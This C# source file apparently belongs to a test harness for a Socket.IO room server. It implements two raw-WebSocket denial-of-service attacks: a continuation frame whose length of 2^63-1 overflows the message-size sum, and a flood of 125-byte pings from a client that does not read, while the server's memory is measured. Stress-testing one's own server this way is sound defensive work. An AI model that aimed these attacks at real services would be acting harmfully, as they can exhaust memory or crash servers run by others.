using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Net.Sockets;
using System.Text;

namespace OrleansRooms.Attacks;

/// <summary>The attacks, each over one raw WebSocket opened with an Engine.IO handshake (no Socket.IO CONNECT).</summary>
internal static class Attack
{
    private static readonly byte[] MaskKey = [0x37, 0xfa, 0x21, 0x3d];

    /// <summary>A 1-byte first fragment, then a continuation whose length (2^63 - 1) overflows the message's sum.</summary>
    public static async Task ContinuationAsync(Uri url, long bytes)
    {
        using var socket = await ConnectAsync(url, receiveBuffer: null);
        var stream = new NetworkStream(socket);
        var clock = Stopwatch.StartNew();
        var reader = ReadFramesAsync(new BufferedStream(stream, 65536), clock, countPongs: false);

        await stream.WriteAsync(Frame(0x01, "4"u8));
        var header = new byte[14];
        header[0] = 0x80; // FIN, continuation
        header[1] = 0x80 | 127;
        BinaryPrimitives.WriteInt64BigEndian(header.AsSpan(2), long.MaxValue);
        MaskKey.CopyTo(header, 10);
        await stream.WriteAsync(header);

        var chunk = new byte[64 * 1024];
        long sent = 0;
        string end = "all sent";
        try
        {
            while (sent < bytes)
            {
                var size = (int)Math.Min(chunk.Length, bytes - sent);
                await stream.WriteAsync(chunk.AsMemory(0, size));
                sent += size;
            }
        }
        catch (IOException exception)
        {
            end = "the server ended the connection (" + (exception.InnerException?.Message ?? exception.Message) + ")";
        }

        Console.WriteLine(string.Create(CultureInfo.InvariantCulture,
            $"continuation: {sent:N0} of {bytes:N0} payload bytes written in {clock.Elapsed.TotalSeconds:0.00} s; {end}"));
        socket.Shutdown(SocketShutdown.Send);
        var seen = await reader.WaitAsync(TimeSpan.FromSeconds(10));
        Console.WriteLine($"server answered: {seen}");
    }

    /// <summary>Pings of 125 bytes, numbered; the client reads nothing unless <paramref name="read"/>.</summary>
    public static async Task PingFloodAsync(Uri url, int count, bool read, ServerMemory memory, TimeSpan hold)
    {
        // A small receive window when not reading: the server's writes stall at once, as for a client that never reads.
        using var socket = await ConnectAsync(url, receiveBuffer: read ? null : 4096);
        var stream = new NetworkStream(socket);
        var clock = Stopwatch.StartNew();
        var reader = read ? ReadFramesAsync(new BufferedStream(stream, 65536), clock, countPongs: true) : null;

        const int perWrite = 1000;
        var payload = new byte[125];
        var batch = new byte[perWrite * (6 + payload.Length)];
        var sent = 0;
        while (sent < count)
        {
            var n = Math.Min(perWrite, count - sent);
            for (var i = 0; i < n; i++)
            {
                BinaryPrimitives.WriteInt32BigEndian(payload, sent + i);
                Frame(0x89, payload).CopyTo(batch, i * (6 + payload.Length));
            }

            await stream.WriteAsync(batch.AsMemory(0, n * (6 + payload.Length)));
            sent += n;
        }

        Console.WriteLine(string.Create(CultureInfo.InvariantCulture,
            $"ping-flood: {sent:N0} pings ({sent * (6L + payload.Length) / 1048576.0:0.0} MiB) written in {clock.Elapsed.TotalSeconds:0.00} s, reading: {read}"));
        if (reader is null)
        {
            // The connection stays open, unread, while the server's memory is measured; then the client drains it.
            await Task.Delay(hold);
            Console.WriteLine($"server memory {hold.TotalSeconds:0.#} s after the flood, client not reading: {memory.Now()}");
            reader = ReadFramesAsync(new BufferedStream(stream, 65536), clock, countPongs: true, lastPing: count - 1);
        }

        socket.Shutdown(SocketShutdown.Send);
        Console.WriteLine($"server answered: {await reader.WaitAsync(TimeSpan.FromSeconds(120))}");
    }

    private static async Task<Socket> ConnectAsync(Uri url, int? receiveBuffer)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        if (receiveBuffer is { } size)
        {
            socket.ReceiveBufferSize = size;
        }

        await socket.ConnectAsync(url.Host, url.Port);
        var request = $"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: {url.Authority}\r\nUpgrade: websocket\r\n" +
            "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
        await socket.SendAsync(Encoding.ASCII.GetBytes(request));
        var head = new StringBuilder();
        var one = new byte[1];
        while (!head.ToString().EndsWith("\r\n\r\n", StringComparison.Ordinal) && await socket.ReceiveAsync(one) == 1)
        {
            head.Append((char)one[0]);
        }

        if (!head.ToString().StartsWith("HTTP/1.1 101 ", StringComparison.Ordinal))
        {
            throw new InvalidOperationException("no WebSocket: " + head.ToString().Split('\r')[0]);
        }

        return socket;
    }

    /// <summary>Reads server frames until the end; describes the close frame, the pongs and when the connection ended.</summary>
    private static async Task<string> ReadFramesAsync(Stream stream, Stopwatch clock, bool countPongs, int? lastPing = null)
    {
        var pongs = 0L;
        var lastPong = -1;
        string? close = null;
        try
        {
            var header = new byte[2];
            var payload = new byte[65536];
            while (true)
            {
                await stream.ReadExactlyAsync(header);
                long length = header[1] & 0x7F;
                if (length >= 126)
                {
                    var extended = new byte[length == 126 ? 2 : 8];
                    await stream.ReadExactlyAsync(extended);
                    length = extended.Length == 2 ? BinaryPrimitives.ReadUInt16BigEndian(extended) : BinaryPrimitives.ReadInt64BigEndian(extended);
                }

                var data = length <= payload.Length ? payload.AsMemory(0, (int)length) : new byte[length];
                await stream.ReadExactlyAsync(data);
                switch (header[0] & 0x0F)
                {
                    case 0xA:
                        pongs++;
                        lastPong = data.Length >= 4 ? BinaryPrimitives.ReadInt32BigEndian(data.Span) : -1;
                        break;
                    case 0x8:
                        close ??= string.Create(CultureInfo.InvariantCulture,
                            $"close {(data.Length >= 2 ? BinaryPrimitives.ReadUInt16BigEndian(data.Span) : 0)} at {clock.Elapsed.TotalSeconds:0.000} s");
                        break;
                }
            }
        }
        catch (Exception exception) when (exception is IOException or EndOfStreamException or SocketException)
        {
        }

        var pongText = countPongs
            ? string.Create(CultureInfo.InvariantCulture, $"{pongs:N0} pongs, the last for ping #{lastPong}{(lastPing is { } l ? (lastPong == l ? " (the last ping)" : $" (the last ping was #{l})") : "")}; ")
            : "";
        return string.Create(CultureInfo.InvariantCulture, $"{pongText}{close ?? "no close frame"}; connection ended at {clock.Elapsed.TotalSeconds:0.000} s");
    }

    private static byte[] Frame(byte first, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[6 + payload.Length];
        frame[0] = first;
        frame[1] = (byte)(0x80 | payload.Length);
        MaskKey.CopyTo(frame, 2);
        for (var i = 0; i < payload.Length; i++)
        {
            frame[6 + i] = (byte)(payload[i] ^ MaskKey[i & 3]);
        }

        return frame;
    }
}
